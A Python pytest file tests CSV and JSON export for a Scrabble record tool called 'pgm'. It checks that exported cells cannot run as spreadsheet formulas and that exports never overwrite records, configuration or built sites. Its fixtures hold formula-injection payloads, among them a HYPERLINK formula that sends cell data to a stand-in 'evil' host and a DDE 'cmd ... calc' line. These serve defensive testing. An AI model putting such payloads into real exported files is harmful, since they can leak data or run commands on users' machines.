"""What pgm's CSV and ``pgm export -o`` must never do: hand a spreadsheet a formula
(a nickname ``=HYPERLINK(...)``, an exchange ``-GMNNPY``), or write over a file pgm did
not write (the record exported, an ``event.yaml``, any other file)."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import CORPUS
from sitehelpers import make_event, run_build

from pgm.cli import main
from pgm.export import CSV_HEADER, ExportTargetError, check_target, csv_cell, save

EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
RECORD = f"""\
#player1 {EVIL} Ann
#player2 @bob Bob
>{EVIL}: ZAEINRS 8G ZA +22 22
#note @SUM(1+1) said Ann
>@bob: GMNNPYQ -GMNNPY +0 0
#note +cmd|' /C calc'!A0
>{EVIL}: EINRSTV -4 +0 22
>@bob: QIABCDE 9F QI +24 24
>@bob: QIABCDE -- -24 0
""".encode()

ROWS = [  # the cells of RECORD after the game column, as a CSV reader gets them
    ["1", "'" + EVIL, "ZAEINRS", "8G", "ZA", "22", "22", "play", ""],
    ["2", "'@bob", "GMNNPYQ", "", "GMNNPY", "0", "0", "exchange", ""],
    ["3", "'" + EVIL, "EINRSTV", "", "4", "0", "22", "exchange", ""],
    ["4", "'@bob", "QIABCDE", "9F", "QI", "24", "24", "play", ""],
    ["5", "'@bob", "QIABCDE", "", "", "-24", "0", "withdrawal", ""],
]


def run(*args: str):
    return CliRunner().invoke(main, list(args))


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- spreadsheet formulas ----------------------------------------------------------------


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+33", "'+33"), ("-GMNNPY", "'-GMNNPY"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ann", "Ann"), ("", ""), ("(OPEG)", "(OPEG)"), ("a=b", "a=b"),
    (-7, -7), (33, 33), (0, 0), (None, None),
])
def test_only_text_that_a_spreadsheet_would_run_gets_a_quote(value, cell) -> None:
    assert csv_cell(value) == cell


def test_export_csv_quotes_formula_text_and_keeps_numbers(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("t.gcg").write_bytes(RECORD)
    result = run("export", "t.gcg")
    assert result.exit_code == 0 and result.stderr == ""
    assert result.stdout.startswith(CSV_HEADER)
    assert table(result.stdout)[1:] == [["t.gcg", *row] for row in ROWS]
    assert "t.gcg,5,'@bob,QIABCDE,,,-24,0,withdrawal,\n" in result.stdout
    assert "SUM" not in result.stdout and "calc" not in result.stdout  # notes are no column


def test_json_keeps_the_values_as_recorded(tmp_path) -> None:
    (tmp_path / "t.gcg").write_bytes(RECORD)
    rows = json.loads(run("export", "--format", "json", str(tmp_path / "t.gcg")).stdout)
    assert [(r["player"], r["word"], r["score"]) for r in rows] == [
        (EVIL, "ZA", 22), ("@bob", "GMNNPY", 0), (EVIL, "4", 0), ("@bob", "QI", 24),
        ("@bob", None, -24)]


def test_the_sites_moves_csv_files_are_quoted_alike(tmp_path) -> None:
    event = make_event(tmp_path / "ev", {"-r1.gcg": RECORD, "+r2.gcg": RECORD})
    out = tmp_path / "site"
    assert run_build(str(event), "-o", str(out), "--quiet").exit_code == 0
    game = (out / "r1/moves.csv").read_text(encoding="utf-8")
    assert table(game)[1:] == [["'-r1.gcg", *row] for row in ROWS]
    whole = (out / "moves.csv").read_text(encoding="utf-8")
    assert table(whole)[0] == CSV_HEADER.rstrip("\n").split(",")
    assert table(whole)[1:] == [[name, *row] for name in ("'+r2.gcg", "'-r1.gcg")
                                for row in ROWS]


# -- pgm export -o: what may be written over ----------------------------------------------


@pytest.fixture
def club(tmp_path: Path) -> Path:
    """An event with a record, and an earlier export of it in each format."""
    event = make_event(tmp_path / "club", {"Open/round-2/t2.gcg": RECORD})
    rows = run("export", str(event))
    (tmp_path / "old.csv").write_text(rows.stdout, encoding="utf-8")
    rows = run("export", "--format", "json", str(event))
    (tmp_path / "old.json").write_text(rows.stdout, encoding="utf-8")
    return event


def refused(output: Path, records: list[Path]) -> str:
    before = output.read_bytes() if output.is_file() else None
    with pytest.raises(ExportTargetError) as caught:
        save(output, "game,turn\n", records)
    assert (output.read_bytes() if output.is_file() else None) == before
    if output.parent.is_dir():
        assert not [p for p in output.parent.iterdir() if p.name.endswith(".tmp")]
    return str(caught.value)


def test_the_record_exported_is_refused(club) -> None:
    record = club / "Open/round-2/t2.gcg"
    assert refused(record, [record]) == (
        f"will not write the export over {record}: it is one of the records exported; "
        "name another file, e.g. moves.csv")
    # through another name of the same file, whatever its name
    (club / "t2.txt").hardlink_to(record)
    (club / "link").symlink_to(record)
    for other in (club / "t2.txt", club / "link"):
        assert f"it is the record {record}, one of those exported" in refused(other, [record])


def test_an_event_yaml_or_a_record_name_is_refused(club, tmp_path) -> None:
    assert refused(club / "event.yaml", []) == (
        f"will not write the export to {club / 'event.yaml'}: event.yaml is an event's "
        "configuration; name another file, e.g. moves.csv")
    assert "event.yaml is an event's configuration" in refused(tmp_path / "event.yaml", [])
    assert refused(tmp_path / "new.gcg", []) == (
        f"will not write the export to {tmp_path / 'new.gcg'}: pgm reads .gcg files as "
        "records, so the next check or build would read it as a broken one; name the "
        "file .csv or .json")
    assert not (tmp_path / "event.yaml").exists() and not (tmp_path / "new.gcg").exists()


@pytest.mark.parametrize("content", [
    b"my notes\n",
    b"game,turn,player,rack,position,word,score,cumulative,kind,notation\r\n1,2\r\n",
    b'[{"game": "x"}]\n',
    b"\xff\xfe[",
])
def test_any_other_existing_file_is_refused(tmp_path, content: bytes) -> None:
    """A CSV saved again by a spreadsheet (CRLF lines) may hold a director's edits."""
    other = tmp_path / "results.csv"
    other.write_bytes(content)
    assert refused(other, []) == (
        f"will not write the export over {other}: the file exists and is not an export "
        "pgm wrote (pgm export replaces only its own CSV or JSON files); remove it or name "
        "another file")


def test_a_missing_folder_or_a_folder_is_an_error(tmp_path) -> None:
    assert refused(tmp_path / "nope/moves.csv", []) == (
        f"cannot write {tmp_path / 'nope/moves.csv'}: the folder {tmp_path / 'nope'} "
        "does not exist")
    assert not (tmp_path / "nope").exists()
    (tmp_path / "file").write_text("x")
    assert refused(tmp_path / "file/moves.csv", []).endswith(f"{tmp_path / 'file'} is not a folder")
    assert refused(tmp_path, []) == f"cannot write {tmp_path}: it is a folder"


@pytest.mark.parametrize("name", ["old.csv", "old.json"])
def test_an_earlier_export_is_replaced_in_either_format(club, tmp_path, name: str) -> None:
    earlier = tmp_path / name
    earlier.chmod(0o640)
    record = club / "Open/round-2/t2.gcg"
    for fmt in ("json", "csv", "csv"):
        text = run("export", "--format", fmt, str(club)).stdout
        save(earlier, text, [record])
        assert earlier.read_text(encoding="utf-8") == text
    assert earlier.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["club", "old.csv", "old.json"]


def test_an_empty_file_and_a_link_to_an_export_are_pgms_to_replace(tmp_path) -> None:
    empty = tmp_path / "mktemp.csv"
    empty.touch()
    save(empty, "[]\n", [])
    assert empty.read_text(encoding="utf-8") == "[]\n"
    link = tmp_path / "latest.csv"
    link.symlink_to(tmp_path / "old.csv")
    save(link, CSV_HEADER, [])
    assert link.is_symlink() and (tmp_path / "old.csv").read_text(encoding="utf-8") == CSV_HEADER


def test_the_file_is_replaced_in_one_rename_from_its_own_folder(tmp_path, monkeypatch) -> None:
    target = tmp_path / "old.csv"
    target.write_text(CSV_HEADER + "old,row\n", encoding="utf-8")
    renames = []
    real_replace = os.replace

    def replace(src, dst):
        renames.append((Path(src), Path(dst), Path(src).read_text(encoding="utf-8")))
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    save(target, CSV_HEADER + "new,row\n", [])
    [(temp, dst, written)] = renames
    assert dst == target and temp.parent == tmp_path and temp.name.startswith(".old.csv.")
    assert written == CSV_HEADER + "new,row\n" and not temp.exists()

    def fail(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(ExportTargetError, match=f"^cannot write {target}: No space left"):
        save(target, CSV_HEADER + "newer,row\n", [])
    assert target.read_text(encoding="utf-8") == CSV_HEADER + "new,row\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.csv"]


@pytest.mark.skipif(not os.path.exists("/dev/null"), reason="no /dev/null")
def test_a_device_is_written_as_it_is() -> None:
    save(Path("/dev/null"), CSV_HEADER, [])  # not replaced: no temp file beside it


def test_check_target_allows_a_new_csv_beside_the_records(club) -> None:
    check_target(club / "moves.csv", [club / "Open/round-2/t2.gcg"])
    check_target(Path(os.path.relpath(club / "moves.json")), [])
    records = sorted(CORPUS.glob("gcg/*.gcg"))[:3]
    check_target(club / "corpus.csv", records)


def test_pgm_export_refuses_to_write_over_what_it_reads_and_reruns_over_its_own(
        tmp_path, monkeypatch) -> None:
    record = (CORPUS / "gcg/macondo__vs_andy.gcg").read_bytes()
    make_event(tmp_path / "club", {"event.yaml": "title: Club\n", "r2/t2.gcg": record})
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    for target in ("club/r2/t2.gcg", "club/event.yaml"):
        done = runner.invoke(main, ["export", "club", "-o", target])
        assert done.exit_code == 1 and "will not write the export " in done.output
    assert (tmp_path / "club/r2/t2.gcg").read_bytes() == record
    assert (tmp_path / "club/event.yaml").read_text() == "title: Club\n"
    for fmt in ("csv", "json", "csv"):
        done = runner.invoke(main, ["export", "club", "-o", "moves.csv", "--format", fmt])
        assert done.exit_code == 0, done.output
    assert (tmp_path / "moves.csv").read_text().startswith(CSV_HEADER)


@pytest.mark.parametrize("target", ["moves.csv", "g/moves.csv", "all-moves.json"])
def test_an_export_into_a_built_site_is_refused_and_the_site_is_left_alone(
        tmp_path, target: str) -> None:
    """The site's moves.csv files are the build's (draft games left out, paths from the
    event folder): an export written over one would publish a draft, and the next build,
    finding nothing changed, would leave it there. Nothing is written into a site."""
    event = make_event(tmp_path / "ev", {
        "g.gcg": RECORD, "h.gcg": RECORD.replace(b"Ann", b"Ada"),
        "event.yaml": "games:\n  h.gcg: {draft: true}\n"})
    assert run_build(str(event)).exit_code == 0
    site = event / "_site"
    before = {p: p.read_bytes() for p in site.rglob("*") if p.is_file()}
    result = run("export", str(event), "-o", str(site / target))
    assert result.exit_code == 1
    assert (f"will not write the export into {site.resolve()}, a site pgm built: pgm build "
            "writes its moves.csv files (without draft games) and would not know of yours; "
            "write the export outside the site") in result.output
    assert {p: p.read_bytes() for p in site.rglob("*") if p.is_file()} == before
    (tmp_path / "latest.csv").symlink_to(site / target)  # written where the link leads
    linked = run("export", str(event), "-o", str(tmp_path / "latest.csv"))
    assert linked.exit_code == 1 and "a site pgm built" in linked.output
    assert {p: p.read_bytes() for p in site.rglob("*") if p.is_file()} == before
